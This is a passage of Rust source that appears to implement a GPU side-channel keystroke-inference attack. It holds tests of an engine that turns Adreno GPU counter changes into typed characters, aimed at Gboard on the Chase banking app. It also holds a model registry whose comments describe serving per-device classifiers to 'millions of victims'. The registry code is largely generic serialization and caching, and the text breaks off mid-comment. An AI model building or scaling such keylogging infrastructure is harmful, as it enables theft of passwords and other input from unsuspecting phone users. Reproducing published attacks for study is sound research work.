        c[TrackedCounter::Ras8x4Tiles] = tiles;
        c[TrackedCounter::VpcPcPrimitives] = prims;
        c
    }

    fn model() -> ClassifierModel {
        let meta = ModelMeta {
            phone: PhoneModel::OnePlus8Pro,
            android: AndroidVersion::V11,
            resolution: Resolution::Fhd,
            refresh: RefreshRate::Hz60,
            keyboard: KeyboardKind::Gboard,
            app: TargetApp::Chase,
        };
        ClassifierModel::new(
            meta,
            vec![
                KeyCentroid { ch: 'w', values: set(1000, 160) },
                KeyCentroid { ch: 'n', values: set(1100, 150) },
            ],
            [1.0; NUM_TRACKED],
            20.0,
            set(800, 120),
            set(8000, 60),
            vec![set(20, 2), set(24, 4)],
            set(9_000, 600),
            100_000,
        )
    }

    fn d(ms: u64, tiles: u64, prims: u64) -> Delta {
        Delta { at: SimInstant::from_millis(ms), values: set(tiles, prims) }
    }

    #[test]
    fn direct_classification() {
        let m = model();
        let (keys, noise, stats) =
            infer_stream(&m, &[d(100, 1000, 160), d(400, 1100, 150)], OnlineConfig::default());
        assert_eq!(keys.len(), 2);
        assert_eq!(keys[0].ch, 'w');
        assert_eq!(keys[1].ch, 'n');
        assert!(noise.is_empty());
        assert_eq!(stats.direct, 2);
    }

    #[test]
    fn duplication_suppressed_within_t_l() {
        let m = model();
        // GBoard animation: identical change 16 ms after the accepted one.
        let (keys, _, stats) = infer_stream(
            &m,
            &[d(100, 1000, 160), d(116, 1000, 160), d(400, 1100, 150)],
            OnlineConfig::default(),
        );
        assert_eq!(keys.len(), 2, "duplicate must not become a second press");
        assert_eq!(stats.duplications_suppressed, 1);
    }

    #[test]
    fn presses_beyond_t_l_are_kept() {
        let m = model();
        // A genuine double letter 90 ms apart (fast typist) survives.
        let (keys, _, stats) =
            infer_stream(&m, &[d(100, 1000, 160), d(190, 1000, 160)], OnlineConfig::default());
        assert_eq!(keys.len(), 2);
        assert_eq!(stats.duplications_suppressed, 0);
    }

    #[test]
    fn split_recombination_recovers_the_press() {
        let m = model();
        // 'w' split across two adjacent reads (60% + 40%).
        let (keys, noise, stats) =
            infer_stream(&m, &[d(100, 600, 96), d(108, 400, 64)], OnlineConfig::default());
        assert_eq!(keys.len(), 1);
        assert_eq!(keys[0].ch, 'w');
        assert_eq!(keys[0].at, SimInstant::from_millis(100), "split press is backdated");
        assert!(keys[0].via_split);
        assert!(noise.is_empty());
        assert_eq!(stats.splits_recovered, 1);
    }

    #[test]
    fn distant_fragments_do_not_recombine() {
        let m = model();
        // Same fragments, but 300 ms apart: both are noise.
        let (keys, noise, stats) =
            infer_stream(&m, &[d(100, 600, 96), d(400, 400, 64)], OnlineConfig::default());
        assert!(keys.is_empty());
        assert_eq!(noise.len(), 2);
        assert_eq!(stats.noise, 2);
    }

    #[test]
    fn unmatched_changes_become_noise() {
        let m = model();
        let (keys, noise, stats) =
            infer_stream(&m, &[d(100, 5000, 10), d(300, 7000, 20)], OnlineConfig::default());
        assert!(keys.is_empty());
        assert_eq!(noise.len(), 2);
        assert_eq!(stats.noise, 2);
        assert!(noise.windows(2).all(|w| w[0].at <= w[1].at));
    }

    #[test]
    fn greedy_miscombination_fixed_by_full_trace() {
        let m = model();
        // A noise fragment at t=100 followed by a genuine split pair at
        // t=108/116. Greedy combines (100,108) into a wrong-but-accepted
        // key; full-trace lookahead pairs (108,116) correctly.
        let noise_frag = d(100, 505, 86); // noise: combines with 108 to 'n'+ε (dist 5)
        let split_a = d(108, 600, 64);
        let split_b = d(116, 400, 96);
        // greedy: 100+108 = (1105, 150) ≈ 'n' (dist 5 ≤ C_th) → accepted wrongly,
        // and the real second fragment is then suppressed as a duplicate.
        let (keys_greedy, _, _) =
            infer_stream(&m, &[noise_frag, split_a, split_b], OnlineConfig::default());
        // full trace: 108+116 = (1000,160) = 'w' exactly (dist 0 < 5) wins the pairing.
        let (keys_full, _, _) =
            infer_full_trace(&m, &[noise_frag, split_a, split_b], OnlineConfig::default());
        assert_eq!(keys_greedy.first().map(|k| k.ch), Some('n'));
        assert_eq!(keys_full.first().map(|k| k.ch), Some('w'));
    }

    #[test]
    fn finish_flushes_leftover_as_noise() {
        let m = model();
        let mut eng = OnlineInference::new(&m, OnlineConfig::default());
        eng.process(d(100, 600, 96)); // un-classifiable fragment
        assert_eq!(eng.inferred().len(), 0);
        let (_, noise, stats) = eng.finish();
        assert_eq!(noise.len(), 1);
        assert_eq!(stats.noise, 1);
    }
}
