//! Content-addressed model registry: the single source of trained
//! [`ClassifierModel`]s at fleet scale.
//!
//! The paper ships thousands of per-configuration models inside a 13 MB app
//! (§7.6) and adapts models across users (§7.5). At ROADMAP scale — millions
//! of victims with per-device×keyboard×app variants — model storage,
//! eviction and update semantics are a production subsystem of their own.
//! This module provides it:
//!
//! * **GPMR format** — a compact versioned binary encoding of a
//!   [`ClassifierModel`] with a quantization knob ([`Quantization`]): `f64`
//!   (bit-exact), `f32` or `i16` centroid rows. Whitening weights and the
//!   acceptance threshold are always kept exact (full `f64` bits) — they
//!   define the distance space, and perturbing them would shift every
//!   decision boundary at once.
//! * **Content addressing** — a [`ModelDigest`] (SHA-256 over the canonical
//!   encoding) names each model. Identical models deduplicate to one blob
//!   and one decoded `Arc` regardless of how many fleet keys map to them.
//! * **[`ModelHandle`]** — a cheaply clonable handle owning the encoded
//!   blob. Decoding is lazy and happens at most once per handle: the first
//!   [`ModelHandle::model`] call materialises an `Arc<ClassifierModel>`,
//!   the blob stays resident for re-serving (the wire sends bytes, not
//!   structs).
//! * **[`Registry`]** — train-once-per-key semantics (absorbed from the old
//!   `bench::ModelCache`), byte-budgeted deterministic LRU eviction with
//!   pinning, and incremental online adaptation: an
//!   exponential-moving-average fold of a corrected session's observations
//!   into the centroids, producing a *new* digest with parent→child lineage
//!   tracked.
//!
//! # Determinism
//!
//! Eviction order is a pure function of registry contents, never of thread
//! scheduling. Recency ticks are **caller-assigned logical times** folded
//! with `max` (commutative — concurrent touches land in any order with the
//! same result), and ties break on insertion tick and then on the digest
//! itself, which is scheduling-independent by construction. The `registry`
//! experiment's eviction log is byte-identical at any `--jobs`.

use std::collections::HashMap;
use std::fmt;
use std::sync::{Arc, Mutex, OnceLock};

use adreno_sim::counters::{CounterSet, NUM_TRACKED};
use android_ui::{DeviceConfig, KeyboardKind, TargetApp};
use bytes::{Buf, BufMut, Bytes, BytesMut};

use crate::classify::{
    android_code, android_from, app_code, app_from, keyboard_code, keyboard_from, phone_code,
    phone_from, refresh_code, refresh_from, resolution_code, resolution_from, ClassifierModel,
    KeyCentroid, ModelDecodeError, ModelMeta,
};
use crate::offline::{Trainer, TrainerConfig};

/// The fleet key a model is registered under: the victim configuration that
/// selects which model can classify its popup frames.
pub type ModelKey = (DeviceConfig, KeyboardKind, TargetApp);

// ---------------------------------------------------------------------------
// SHA-256 (FIPS 180-4), self-contained. The registry is content-addressed
// and the digest crosses the wire, so it must be a real collision-resistant
// hash with a stable reference definition — not a homegrown mixer.

mod sha256 {
    const K: [u32; 64] = [
        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4,
        0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe,
        0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f,
        0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7,
        0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc,
        0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
        0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116,
        0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
        0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
        0xc67178f2,
    ];

    pub fn digest(data: &[u8]) -> [u8; 32] {
        let mut h: [u32; 8] = [
            0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab,
            0x5be0cd19,
        ];
        // Padded message: data ‖ 0x80 ‖ zeros ‖ bit length (64-bit BE).
        let bit_len = (data.len() as u64).wrapping_mul(8);
        let mut padded = Vec::with_capacity(data.len() + 72);
        padded.extend_from_slice(data);
        padded.push(0x80);
        while padded.len() % 64 != 56 {
            padded.push(0);
        }
        padded.extend_from_slice(&bit_len.to_be_bytes());

        let mut w = [0u32; 64];
        for block in padded.chunks_exact(64) {
            for (i, word) in w.iter_mut().take(16).enumerate() {
                *word = u32::from_be_bytes(block[i * 4..i * 4 + 4].try_into().unwrap());
            }
            for i in 16..64 {
                let s0 = w[i - 15].rotate_right(7) ^ w[i - 15].rotate_right(18) ^ (w[i - 15] >> 3);
                let s1 = w[i - 2].rotate_right(17) ^ w[i - 2].rotate_right(19) ^ (w[i - 2] >> 10);
                w[i] = w[i - 16].wrapping_add(s0).wrapping_add(w[i - 7]).wrapping_add(s1);
            }
            let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut hh] = h;
            for i in 0..64 {
                let s1 = e.rotate_right(6) ^ e.rotate_right(11) ^ e.rotate_right(25);
                let ch = (e & f) ^ (!e & g);
                let t1 = hh.wrapping_add(s1).wrapping_add(ch).wrapping_add(K[i]).wrapping_add(w[i]);
                let s0 = a.rotate_right(2) ^ a.rotate_right(13) ^ a.rotate_right(22);
                let maj = (a & b) ^ (a & c) ^ (b & c);
                let t2 = s0.wrapping_add(maj);
                hh = g;
                g = f;
                f = e;
                e = d.wrapping_add(t1);
                d = c;
                c = b;
                b = a;
                a = t1.wrapping_add(t2);
            }
            for (slot, v) in h.iter_mut().zip([a, b, c, d, e, f, g, hh]) {
                *slot = slot.wrapping_add(v);
            }
        }
        let mut out = [0u8; 32];
        for (chunk, word) in out.chunks_exact_mut(4).zip(h) {
            chunk.copy_from_slice(&word.to_be_bytes());
        }
        out
    }
}

// ---------------------------------------------------------------------------
// Digest

/// Content address of an encoded model: SHA-256 over the canonical GPMR
/// blob. Two models with the same digest are byte-identical on the wire and
/// share one blob and one decoded `Arc` in the registry.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ModelDigest([u8; 32]);

impl ModelDigest {
    /// The all-zero digest: "no model pinned". The wire protocol uses it in
    /// `Hello` to mean *recognise the device from the traffic* (the legacy
    /// §3.2 path) rather than resolving a specific model.
    pub const ZERO: ModelDigest = ModelDigest([0; 32]);

    /// Computes the digest of an encoded blob.
    pub fn of(blob: &[u8]) -> ModelDigest {
        ModelDigest(sha256::digest(blob))
    }

    /// Wraps raw digest bytes (e.g. received over the wire).
    pub const fn from_bytes(bytes: [u8; 32]) -> ModelDigest {
        ModelDigest(bytes)
    }

    /// The raw digest bytes.
    pub const fn as_bytes(&self) -> &[u8; 32] {
        &self.0
    }

    /// Whether this is [`ModelDigest::ZERO`] (no model pinned).
    pub fn is_zero(&self) -> bool {
        self.0 == [0; 32]
    }

    /// The first eight hex digits — enough to tell models apart in reports.
    pub fn short(&self) -> String {
        self.0[..4].iter().map(|b| format!("{b:02x}")).collect()
    }
}

impl fmt::Display for ModelDigest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for b in &self.0 {
            write!(f, "{b:02x}")?;
        }
        Ok(())
    }
}

impl fmt::Debug for ModelDigest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ModelDigest({}…)", self.short())
    }
}

// ---------------------------------------------------------------------------
// Quantization + GPMR codec

/// Centroid-row quantization tier of the GPMR encoding.
///
/// Only centroid rows are quantized. Whitening weights, the threshold and
/// the recognition/launch/ambient signatures stay exact: the signatures are
/// matched with *relative* tolerances against raw traffic and the weights
/// define the whitened distance space itself.
///
/// Decoded-value error bounds (per counter value `v`, row maximum `m`):
///
/// * [`Quantization::F64`] — exact for `v < 2⁵³` (every realistic counter;
///   the paper's counters are tile/primitive/pixel counts ≤ 2²⁵ per frame).
/// * [`Quantization::F32`] — `|dec − v| ≤ v / 2²³ + 1` (one f32 rounding,
///   then rounding back to an integer).
/// * [`Quantization::I16`] — lossless when `m ≤ 32767`; otherwise the row
///   is scaled by `m / 32767` and `|dec − v| ≤ m / (2 · 32767) + 1`.
///
/// Every tier's decode→re-encode is **idempotent**: re-encoding a decoded
/// model reproduces the blob byte-for-byte, so the digest is stable across
/// a decode/encode round trip (pinned by proptest).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum Quantization {
    /// Centroid rows as full `f64` bits — bit-exact round trip.
    #[default]
    F64,
    /// Centroid rows as `f32` bits — 4 bytes per value, ~2⁻²³ relative error.
    F32,
    /// Centroid rows as `i16` against a per-row scale — 2 bytes per value.
    I16,
}

impl Quantization {
    /// All tiers, in increasing compression order.
    pub const ALL: [Quantization; 3] = [Quantization::F64, Quantization::F32, Quantization::I16];

    /// Human-readable tier name (`"f64"`, `"f32"`, `"i16"`).
    pub fn name(&self) -> &'static str {
        match self {
            Quantization::F64 => "f64",
            Quantization::F32 => "f32",
            Quantization::I16 => "i16",
        }
    }

    fn code(self) -> u8 {
        match self {
            Quantization::F64 => 0,
            Quantization::F32 => 1,
            Quantization::I16 => 2,
        }
    }

    fn from_code(code: u8) -> Option<Quantization> {
        match code {
            0 => Some(Quantization::F64),
            1 => Some(Quantization::F32),
            2 => Some(Quantization::I16),
            _ => None,
        }
    }
}

/// Largest representable i16 quantization level.
const I16_LEVELS: u64 = 32767;

fn put_varint(b: &mut BytesMut, mut v: u64) {
    loop {
        let byte = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            b.put_u8(byte);
            return;
        }
        b.put_u8(byte | 0x80);
    }
}

fn get_varint(data: &mut Bytes) -> Result<u64, ModelDecodeError> {
    let mut v = 0u64;
    let mut shift = 0u32;
    loop {
        if data.remaining() == 0 {
            return Err(ModelDecodeError::Truncated);
        }
        let byte = data.get_u8();
        if shift == 63 && byte > 1 {
            return Err(ModelDecodeError::BadField("varint overflow"));
        }
        v |= u64::from(byte & 0x7f) << shift;
        if byte & 0x80 == 0 {
            return Ok(v);
        }
        shift += 7;
        if shift > 63 {
            return Err(ModelDecodeError::BadField("varint overflow"));
        }
    }
}

fn put_set_varint(b: &mut BytesMut, set: &CounterSet) {
    for &v in set.as_array() {
        put_varint(b, v);
    }
}

fn get_set_varint(data: &mut Bytes) -> Result<CounterSet, ModelDecodeError> {
    let mut a = [0u64; NUM_TRACKED];
    for v in &mut a {
        *v = get_varint(data)?;
    }
    Ok(CounterSet::from_array(a))
}

/// Rounds a non-negative float back to a counter value, saturating at
/// `u64::MAX` (Rust float→int casts saturate, so huge inputs cannot wrap).
fn to_counter(f: f64) -> u64 {
    f.round() as u64
}

fn encode_row(b: &mut BytesMut, row: &CounterSet, q: Quantization) {
    match q {
        Quantization::F64 => {
            for &v in row.as_array() {
                b.put_u64((v as f64).to_bits());
            }
        }
        Quantization::F32 => {
            for &v in row.as_array() {
                b.put_u32((v as f32).to_bits());
            }
        }
        Quantization::I16 => {
            let max = row.as_array().iter().copied().max().unwrap_or(0);
            // Scale 1.0 below the level count keeps small rows lossless;
            // above it, scale > 1 guarantees requantizing a decoded row
            // reproduces the same levels (the decode error is < scale/2).
            let scale = if max <= I16_LEVELS { 1.0 } else { max as f64 / I16_LEVELS as f64 };
            b.put_u64(scale.to_bits());
            for &v in row.as_array() {
                let q = ((v as f64 / scale).round() as u64).min(I16_LEVELS) as u16;
                b.put_u16(q);
            }
        }
    }
}

fn decode_row(data: &mut Bytes, q: Quantization) -> Result<CounterSet, ModelDecodeError> {
    let mut a = [0u64; NUM_TRACKED];
    match q {
        Quantization::F64 => {
            if data.remaining() < NUM_TRACKED * 8 {
                return Err(ModelDecodeError::Truncated);
            }
            for v in &mut a {
                let f = f64::from_bits(data.get_u64());
                if !f.is_finite() || f < 0.0 {
                    return Err(ModelDecodeError::BadField("centroid value"));
                }
                *v = to_counter(f);
            }
        }
        Quantization::F32 => {
            if data.remaining() < NUM_TRACKED * 4 {
                return Err(ModelDecodeError::Truncated);
            }
            for v in &mut a {
                let f = f32::from_bits(data.get_u32());
                if !f.is_finite() || f < 0.0 {
                    return Err(ModelDecodeError::BadField("centroid value"));
                }
                *v = to_counter(f as f64);
            }
        }
        Quantization::I16 => {
            if data.remaining() < 8 + NUM_TRACKED * 2 {
                return Err(ModelDecodeError::Truncated);
            }
            let scale = f64::from_bits(data.get_u64());
            if !scale.is_finite() || scale < 1.0 {
                return Err(ModelDecodeError::BadField("row scale"));
            }
            for v in &mut a {
                let q = data.get_u16() as u64;
                if q > I16_LEVELS {
                    return Err(ModelDecodeError::BadField("quantized value"));
                }
                *v = to_counter(q as f64 * scale);
            }
        }
    }
    Ok(CounterSet::from_array(a))
}

/// Serialises a model into the registry's canonical GPMR format at the
/// given quantization tier. The digest of the returned bytes is the model's
/// content address.
///
/// Layout (all multi-byte scalars big-endian, counters LEB128 varints):
///
/// ```text
/// "GPMR" | ver=1 | tier | phone android res refresh kb app (1 byte each)
/// threshold f64 | weights 11×f64               (exact — never quantized)
/// kb_signature, app_signature                  (11 varints each)
/// n_sigs varint | field_signatures             (n × 11 varints)
/// launch_signature | switch_threshold varint
/// centroid count u16
/// per centroid: char varint + row              (row format per tier)
/// ```
pub fn encode_model(model: &ClassifierModel, q: Quantization) -> Bytes {
    let meta = model.meta();
    let mut b = BytesMut::with_capacity(160 + model.centroids().len() * (2 + NUM_TRACKED * 8));
    b.put_slice(b"GPMR");
    b.put_u8(1); // version
    b.put_u8(q.code());
    b.put_u8(phone_code(meta.phone));
    b.put_u8(android_code(meta.android));
    b.put_u8(resolution_code(meta.resolution));
    b.put_u8(refresh_code(meta.refresh));
    b.put_u8(keyboard_code(meta.keyboard));
    b.put_u8(app_code(meta.app));
    b.put_u64(model.threshold().to_bits());
    for w in model.weights() {
        b.put_u64(w.to_bits());
    }
    put_set_varint(&mut b, model.kb_signature());
    put_set_varint(&mut b, model.app_signature());
    put_varint(&mut b, model.ambient_signatures().len() as u64);
    for sig in model.ambient_signatures() {
        put_set_varint(&mut b, sig);
    }
    put_set_varint(&mut b, model.launch_signature());
    put_varint(&mut b, model.switch_threshold());
    b.put_u16(model.centroids().len() as u16);
    for c in model.centroids() {
        put_varint(&mut b, u64::from(u32::from(c.ch)));
        encode_row(&mut b, &c.values, q);
    }
    b.freeze()
}

/// Everything [`decode_model`] reads out of a blob, before the (relatively
/// expensive) hot-path preparation that `ClassifierModel::new` performs.
struct Parsed {
    meta: ModelMeta,
    threshold: f64,
    weights: [f64; NUM_TRACKED],
    kb_signature: CounterSet,
    app_signature: CounterSet,
    field_signatures: Vec<CounterSet>,
    launch_signature: CounterSet,
    switch_threshold: u64,
    centroids: Vec<KeyCentroid>,
}

fn parse_blob(mut data: Bytes) -> Result<Parsed, ModelDecodeError> {
    use ModelDecodeError::*;
    let (quantization, meta) = parse_header(&mut data)?;
    if data.remaining() < 8 + NUM_TRACKED * 8 {
        return Err(Truncated);
    }
    let threshold = f64::from_bits(data.get_u64());
    let mut weights = [0.0; NUM_TRACKED];
    for w in &mut weights {
        *w = f64::from_bits(data.get_u64());
        if !w.is_finite() {
            return Err(BadField("weight"));
        }
    }
    let kb_signature = get_set_varint(&mut data)?;
    let app_signature = get_set_varint(&mut data)?;
    let n_sigs = get_varint(&mut data)?;
    // Each signature costs ≥ NUM_TRACKED bytes; reject absurd counts before
    // allocating.
    if n_sigs as u128 * NUM_TRACKED as u128 > data.remaining() as u128 {
        return Err(Truncated);
    }
    let mut field_signatures = Vec::with_capacity(n_sigs as usize);
    for _ in 0..n_sigs {
        field_signatures.push(get_set_varint(&mut data)?);
    }
    let launch_signature = get_set_varint(&mut data)?;
    let switch_threshold = get_varint(&mut data)?;
    if data.remaining() < 2 {
        return Err(Truncated);
    }
    let n = data.get_u16() as usize;
    let mut centroids = Vec::with_capacity(n);
    for _ in 0..n {
        let ch = get_varint(&mut data)?;
        let ch = u32::try_from(ch).ok().and_then(char::from_u32).ok_or(BadField("char"))?;
        let values = decode_row(&mut data, quantization)?;
        centroids.push(KeyCentroid { ch, values });
    }
    if data.remaining() != 0 {
        return Err(BadField("trailing bytes"));
    }
    if centroids.is_empty() || threshold <= 0.0 || !threshold.is_finite() {
        return Err(BadField("body"));
    }
    Ok(Parsed {
        meta,
        threshold,
        weights,
        kb_signature,
        app_signature,
        field_signatures,
        launch_signature,
        switch_threshold,
        centroids,
    })
}

/// Reads just the fixed 11-byte GPMR header: magic, version, tier, meta.
fn parse_header(data: &mut Bytes) -> Result<(Quantization, ModelMeta), ModelDecodeError> {
    use ModelDecodeError::*;
    if data.remaining() < 12 {
        return Err(Truncated);
    }
    let mut magic = [0u8; 4];
    data.copy_to_slice(&mut magic);
    if &magic != b"GPMR" {
        return Err(BadMagic);
    }
    let version = data.get_u8();
    if version != 1 {
        return Err(BadVersion(version));
    }
    let quantization = Quantization::from_code(data.get_u8()).ok_or(BadField("quantization"))?;
    let meta = ModelMeta {
        phone: phone_from(data.get_u8()).ok_or(BadField("phone"))?,
        android: android_from(data.get_u8()).ok_or(BadField("android"))?,
        resolution: resolution_from(data.get_u8()).ok_or(BadField("resolution"))?,
        refresh: refresh_from(data.get_u8()).ok_or(BadField("refresh"))?,
        keyboard: keyboard_from(data.get_u8()).ok_or(BadField("keyboard"))?,
        app: app_from(data.get_u8()).ok_or(BadField("app"))?,
    };
    Ok((quantization, meta))
}

/// Decodes a GPMR blob produced by [`encode_model`], rebuilding the
/// classifier's prepared hot-path data.
///
/// # Errors
///
/// A typed [`ModelDecodeError`] for truncated or corrupt input; never
/// panics, whatever the bytes.
pub fn decode_model(data: Bytes) -> Result<ClassifierModel, ModelDecodeError> {
    let p = parse_blob(data)?;
    Ok(ClassifierModel::new(
        p.meta,
        p.centroids,
        p.weights,
        p.threshold,
        p.kb_signature,
        p.app_signature,
        p.field_signatures,
        p.launch_signature,
        p.switch_threshold,
    ))
}

// ---------------------------------------------------------------------------
// ModelHandle

struct HandleInner {
    digest: ModelDigest,
    quantization: Quantization,
    blob: Bytes,
    /// Lazily decoded model. Handles built from a live trained model are
    /// pre-seeded with that exact `Arc`, so serving stays bit-exact even at
    /// lossy tiers — the blob is the *wire* form, quantization error only
    /// enters when a peer decodes the bytes.
    decoded: OnceLock<Arc<ClassifierModel>>,
}

/// A cheaply clonable handle to one registered model: the content digest,
/// the encoded GPMR blob (retained for re-serving) and a lazily decoded
/// `Arc<ClassifierModel>` materialised at most once on first use.
#[derive(Clone)]
pub struct ModelHandle {
    inner: Arc<HandleInner>,
}

impl ModelHandle {
    /// Wraps an already-trained model: encodes it at `q`, digests the
    /// encoding, and pre-seeds the decoded slot with the given `Arc` (no
    /// decode will ever run; clones share the trained model bit-exactly).
    pub fn from_arc(model: Arc<ClassifierModel>, q: Quantization) -> ModelHandle {
        let blob = encode_model(&model, q);
        let digest = ModelDigest::of(&blob);
        let decoded = OnceLock::new();
        let _ = decoded.set(model);
        ModelHandle { inner: Arc::new(HandleInner { digest, quantization: q, blob, decoded }) }
    }

    /// Wraps an untrusted encoded blob, **eagerly validating** it by a full
    /// decode (the decoded model seeds the lazy slot, so validation is not
    /// wasted work).
    ///
    /// # Errors
    ///
    /// Any [`ModelDecodeError`] the blob fails validation with.
    pub fn from_blob(blob: Bytes) -> Result<ModelHandle, ModelDecodeError> {
        let model = decode_model(blob.clone())?;
        let mut header = blob.clone();
        let (quantization, _) = parse_header(&mut header)?;
        let digest = ModelDigest::of(&blob);
        let decoded = OnceLock::new();
        let _ = decoded.set(Arc::new(model));
        Ok(ModelHandle { inner: Arc::new(HandleInner { digest, quantization, blob, decoded }) })
    }

    /// Wraps a **trusted** encoded blob (one produced by [`encode_model`])
    /// without decoding it: only the fixed header is checked. The first
    /// [`ModelHandle::model`] call decodes lazily.
    ///
    /// # Errors
    ///
    /// Header-level [`ModelDecodeError`]s only (magic/version/tier/meta).
    pub fn from_trusted_blob(blob: Bytes) -> Result<ModelHandle, ModelDecodeError> {
        let mut header = blob.clone();
        let (quantization, _) = parse_header(&mut header)?;
        let digest = ModelDigest::of(&blob);
        Ok(ModelHandle {
            inner: Arc::new(HandleInner { digest, quantization, blob, decoded: OnceLock::new() }),
        })
    }

    /// The model's content address.
    pub fn digest(&self) -> ModelDigest {
        self.inner.digest
    }

    /// The quantization tier the blob is encoded at.
    pub fn quantization(&self) -> Quantization {
        self.inner.quantization
    }

    /// The encoded GPMR blob (zero-copy slice of the handle's storage).
    pub fn blob(&self) -> &Bytes {
        &self.inner.blob
    }

    /// Encoded size in bytes — cached at insert time, never recomputed
    /// (this is what fixes the old `ModelStore::total_wire_bytes`
    /// re-serialising every model per call).
    pub fn encoded_len(&self) -> usize {
        self.inner.blob.len()
    }

    /// The decoded model, materialised on first call and shared thereafter.
    ///
    /// # Panics
    ///
    /// Panics if the handle was built over a corrupt blob via
    /// [`ModelHandle::from_trusted_blob`] — the trusted path is for blobs
    /// this process encoded itself.
    pub fn model(&self) -> &ClassifierModel {
        self.model_arc_ref()
    }

    /// The decoded model as a shared `Arc` (cloned).
    pub fn model_arc(&self) -> Arc<ClassifierModel> {
        Arc::clone(self.model_arc_ref())
    }

    fn model_arc_ref(&self) -> &Arc<ClassifierModel> {
        self.inner.decoded.get_or_init(|| {
            Arc::new(
                decode_model(self.inner.blob.clone())
                    .expect("trusted registry blob failed to decode"),
            )
        })
    }

    /// Whether the decoded model has been materialised yet.
    pub fn is_decoded(&self) -> bool {
        self.inner.decoded.get().is_some()
    }

    /// Decodes a *fresh* model from the blob, bypassing the pre-seeded
    /// trained `Arc`. This is what a remote peer would reconstruct from the
    /// wire bytes — the quantized view — and what the `registry` experiment
    /// measures accuracy deltas against.
    ///
    /// # Errors
    ///
    /// Any [`ModelDecodeError`] if the blob is corrupt.
    pub fn decode_blob(&self) -> Result<ClassifierModel, ModelDecodeError> {
        decode_model(self.inner.blob.clone())
    }
}

impl fmt::Debug for ModelHandle {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ModelHandle")
            .field("digest", &self.inner.digest)
            .field("quantization", &self.inner.quantization)
            .field("encoded_len", &self.inner.blob.len())
            .field("decoded", &self.is_decoded())
            .finish()
    }
}

impl PartialEq for ModelHandle {
    fn eq(&self, other: &Self) -> bool {
        self.inner.digest == other.inner.digest
    }
}

impl Eq for ModelHandle {}

// ---------------------------------------------------------------------------
// Registry

/// Registry policy knobs.
#[derive(Debug, Clone)]
pub struct RegistryConfig {
    /// Quantization tier models are encoded at on insert. Default
    /// [`Quantization::F64`]: bit-exact, so registry adoption does not
    /// perturb any accuracy number.
    pub quantization: Quantization,
    /// Total encoded-bytes budget. Exceeding it evicts unpinned entries in
    /// deterministic least-recently-used order. `None` = unbounded.
    pub byte_budget: Option<usize>,
    /// EMA weight of a corrected session's observation when folding it into
    /// centroids ([`Registry::adapt_at`]): `new = (1-α)·old + α·observed`.
    pub ema_alpha: f64,
    /// Trainer configuration for [`Registry::get_or_train`] misses.
    pub trainer: TrainerConfig,
}

impl Default for RegistryConfig {
    fn default() -> Self {
        RegistryConfig {
            quantization: Quantization::F64,
            byte_budget: None,
            ema_alpha: 0.25,
            trainer: TrainerConfig::default(),
        }
    }
}

/// Counters snapshot from [`Registry::stats`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct RegistryStats {
    /// Key lookups (including the lookup inside `get_or_train`).
    pub lookups: u64,
    /// Lookups that found a live entry for the key.
    pub hits: u64,
    /// Models actually trained by `get_or_train` misses.
    pub trainings: u64,
    /// Inserts (any path) that resolved to an already-present digest.
    pub dedup_hits: u64,
    /// Entries evicted to meet the byte budget.
    pub evictions: u64,
    /// Successful adaptation folds that produced a new digest.
    pub adaptations: u64,
    /// Insert operations (model, encoded, or adapted child).
    pub inserts: u64,
    /// Fleet keys currently mapped to a live entry (≥ `models` when
    /// deduplication folded several keys onto one digest — then it is the
    /// *keys* that outnumber the models).
    pub keys: usize,
    /// Live entries right now.
    pub models: usize,
    /// Total encoded bytes held right now.
    pub total_bytes: usize,
}

struct Entry {
    handle: ModelHandle,
    pinned: bool,
    /// Caller-assigned logical recency, folded with `max` (commutative, so
    /// concurrent touches are order-independent).
    last_used: u64,
    /// Insertion tick — the LRU tie-break before the digest itself.
    inserted_at: u64,
}

#[derive(Default)]
struct State {
    entries: HashMap<ModelDigest, Entry>,
    by_key: HashMap<ModelKey, ModelDigest>,
    /// Reverse of `by_key`, so eviction can unmap without a scan.
    keys_of: HashMap<ModelDigest, Vec<ModelKey>>,
    /// parent → child adaptation edges, in adaptation order.
    lineage: Vec<(ModelDigest, ModelDigest)>,
    /// Digests evicted so far, in eviction order (deterministic).
    eviction_log: Vec<ModelDigest>,
    total_bytes: usize,
    lookups: u64,
    hits: u64,
    trainings: u64,
    dedup_hits: u64,
    adaptations: u64,
    inserts: u64,
}

impl State {
    fn map_key(&mut self, key: ModelKey, digest: ModelDigest) {
        if let Some(old) = self.by_key.insert(key, digest) {
            if old != digest {
                if let Some(keys) = self.keys_of.get_mut(&old) {
                    keys.retain(|k| *k != key);
                }
            } else {
                return;
            }
        }
        self.keys_of.entry(digest).or_default().push(key);
    }

    /// Evicts unpinned entries (never `protect`, the entry just inserted)
    /// until the budget holds or nothing is evictable. Victim order is
